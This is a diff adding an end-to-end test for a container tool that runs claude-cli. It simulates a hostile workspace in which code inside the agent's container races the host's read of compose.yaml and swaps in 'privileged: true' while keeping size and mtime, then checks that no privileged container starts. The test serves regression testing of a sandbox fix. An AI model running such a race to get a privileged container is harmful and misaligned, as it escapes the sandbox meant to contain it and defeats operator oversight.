@@ -1,0 +1,57 @@
+/**
+ * Hostile workspace: a race from inside claude-cli against `up`'s short path (issue 19; ops/up/). The host's
+ * read of compose.yaml shows in its atime, which claude-cli sees through the bind; right after it, the file
+ * is rewritten in place with the same size and mtime (privileged: true in, a comment shortened), so a check
+ * that trusts the file's identity, or any check before Compose's own read, passes while Compose reads the
+ * new text. The gateway has stopped (a crash), so `up` starts it while claude-cli, and the attacker, still run.
+ *
+ * Attack first, on main 77d613a: claude-cli recreated Privileged=true, cctl up exit 0, and the up record took
+ * its config hash (every later up: "Nothing changed"). On attack19 the start creates, compares the config
+ * hashes with the record's, and starts nothing.
+ */
+import { e2e } from '../../helpers/e2e.js';
+import { Stack } from '../../helpers/hostile.js';
+import { runSettled } from '../../../lib/engine/runner.js';
+
+const PAD = '# notes: keep this file tidy, reviewed by the team each week.\n';
+
+/** Runs detached in claude-cli: waits for the host's read, swaps the text in place, keeps the mtime. */
+const RACE = String.raw`
+const fs = require('fs'), { execFileSync } = require('child_process');
+const f = '/workspace/compose.yaml', log = (m) => fs.appendFileSync('/workspace/.race-log', Date.now() + ' ' + m + '\n');
+const a = fs.readFileSync(f, 'utf8'), add = '    privileged: true\n';
+const b = a.replace('    command: [idle]\n', '    command: [idle]\n' + add).replace(PAD, '#' + 'x'.repeat(PAD.length - 2 - add.length) + '\n');
+if (b.length !== a.length || b === a) { log('cannot build B'); process.exit(1); }
+execFileSync('touch', ['-r', f, '/tmp/ref']);
+const sleep = (ms) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);
+const waitRead = () => { execFileSync('touch', ['-a', '-d', '@0', f]); while (fs.statSync(f).atimeMs < 1e9) sleep(1); };
+waitRead(); log('host read A');
+fs.writeFileSync(f, b); execFileSync('touch', ['-m', '-r', '/tmp/ref', f]); log('B in place');
+`;
+
+const stack = new Stack({ prefix: 'race' });
+e2e.before(() => stack.setUp());
+e2e.after.always(() => stack.tearDown());
+
+e2e.serial('compose.yaml swapped in place (same size and mtime) right after the host read it, while the gateway restarts', async (t) => {
+  const prepared = await stack.attack([{ append: 'compose.yaml', text: PAD }]);
+  t.is(prepared.exitCode, 0, prepared.stderr);
+  const first = await stack.cctl(['up', '--timeout', '300']);
+  t.is(first.exitCode, 0, `a comment is taken without a question: ${first.stdout}${first.stderr}`);
+  const code = `const PAD = ${JSON.stringify(PAD)};\n${RACE}`;
+  const spawn = `require('child_process').spawn('node', ['-e', process.argv[1]], { detached: true, stdio: 'ignore' }).unref()`;
+  const started = await stack.cctl(['exec', '--', 'node', '-e', spawn, code]);
+  t.is(started.exitCode, 0, started.stderr);
+  await new Promise((r) => setTimeout(r, 3000));
+  await runSettled(['docker', 'stop', `${stack.name}-proxy-1`]);
+  const up = await stack.cctl(['up', '--timeout', '300']);
+  const log = await stack.asUser(['cat', '.race-log']);
+  t.log(`race: ${log.stdout.trim().replace(/\n/g, ' | ')}; cctl up exit ${up.exitCode}`);
+  t.regex(log.stdout, /B in place/, 'the attacker swapped the file after the host read it');
+  const ps = await runSettled(['docker', 'ps', '-aq', '--filter', `label=com.docker.compose.project=${stack.name}`]);
+  const ids = ps.stdout.split('\n').filter(Boolean);
+  const inspected = await runSettled(['docker', 'inspect', '--format', '{{.Name}} {{.State.Status}} {{.HostConfig.Privileged}}', ...ids]);
+  t.log(inspected.stdout.trim());
+  t.notRegex(inspected.stdout, / true$/m, 'no container of the project is privileged (started or only created)');
+  if (up.exitCode !== 0) t.regex(`${up.stdout}${up.stderr}`, /changed while cctl up was running/);
+});
